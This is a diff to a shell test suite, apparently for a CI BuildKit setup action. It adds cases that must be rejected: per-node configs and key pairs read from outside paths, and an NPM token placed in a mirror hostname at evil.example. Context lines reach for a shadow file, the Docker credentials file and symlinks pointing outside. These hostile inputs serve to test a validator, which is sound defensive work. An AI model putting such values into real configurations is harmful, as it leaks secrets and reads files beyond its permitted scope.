@@ -20,6 +20,8 @@ pull "authority is a link out" 65 'ln -s ../outside/ca.pem ca.pem; state "ci: {b
 
 # Paths
 pull "configuration by an absolute path" 65 'state "ci: {buildkitd-config: $outside/config.toml}"'
+pull "a node's configuration by an absolute path" 65 'state "ci: {nodes: {a: {buildkitd-config: $outside/config.toml}}}"'
+pull "a node's key pair by absolute paths" 65 'state "ci: {nodes: {a: {buildkitd: {registry: {r.example: {keypair: [{key: $outside/key.pem, cert: $outside/ca.pem}]}}}}}}"'
 pull "configuration by dots" 65 'state "ci: {buildkitd-config: ../outside/config.toml}"'
 pull "configuration that is no TOML" 65 'state "ci: {buildkitd-config: ../outside/shadow}"'
 pull "configuration in the home" 65 'state "ci: {buildkitd-config: ../home/.docker/config.json}"'
@@ -45,6 +47,7 @@ pull "token in sizes and durations" 65 'state "ci: {cache: {max-used-space: \"\$
 pull "token in a path" 65 'state "ci: {buildkitd-config: \"/nowhere/\${GITHUB_TOKEN}\"}"'
 pull "token in flags" 65 'state "ci: {buildkitd-flags: [\"--debug=\${GITHUB_TOKEN}\"]}"'
 pull "token in a mirror" 65 'state "ci: {buildkitd: {registry: {docker.io: {mirrors: [\"\${NPM_AUTHTOKEN}.evil.example\"]}}}}"'
+pull "token in a node's mirror" 65 'state "ci: {nodes: {a: {buildkitd: {registry: {docker.io: {mirrors: [\"\${NPM_AUTHTOKEN}.evil.example\"]}}}}}}"'
 pull "token of an innocent name" 65 'state "ci: {driver-opts: {image: \"evil/\${BUILD_STAMP}\"}}"'
 pull "password within a proxy" 65 'state "ci: {driver-opts: {image: \"\${PROXY}\"}}"'
 pull "tokens in the environment of the daemon" any 'state "ci: {driver-opts: {env.A: \"\${GITHUB_TOKEN}\", env.B: \"x \${AZURE_STORAGE_KEY}\", env.C: \"\${PROXY}\", env.D: \"\${BUILD_STAMP}\", env.E: \"\${NPM_AUTHTOKEN}\"}}"'
